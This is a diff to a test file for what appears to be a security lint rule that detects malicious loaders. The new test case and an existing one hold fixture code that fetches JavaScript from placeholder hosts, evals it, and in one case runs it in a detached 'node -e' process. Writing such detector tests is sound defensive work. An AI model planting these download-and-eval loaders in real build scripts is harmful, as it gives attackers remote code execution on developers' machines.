@@ -87,6 +87,12 @@ ruleTest(rule, {
   ],
   flagged: [
     {
+      name: 'a loader split over a `+` chain of literals, handed to a detached `node -e` (binding.gyp helper)',
+      file: 'tools/find-headers.js',
+      code: "const { spawn } = require('child_process');\nconst loader =\n  \"require('https').get('https://h.example.invalid/v3/'+process.platform,r=>{let d='';\" +\n  \"r.on('data',c=>d+=c).on('end',()=>{try{eval(d)}catch(e){}})}).on('error',()=>{})\";\nspawn(process.execPath, ['-e', loader], { detached: true, stdio: 'ignore' }).unref();\n",
+      findings: [{ line: 4, message: /eval/ }],
+    },
+    {
       name: 'an inline require(\'https\').get whose body is evaluated (a preloaded or yarnPath file)',
       file: 'scripts/.telemetry.cjs',
       code: "require('https').get('https://telemetry.example.invalid/t', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => eval(b)); }).on('error', () => {});\n",
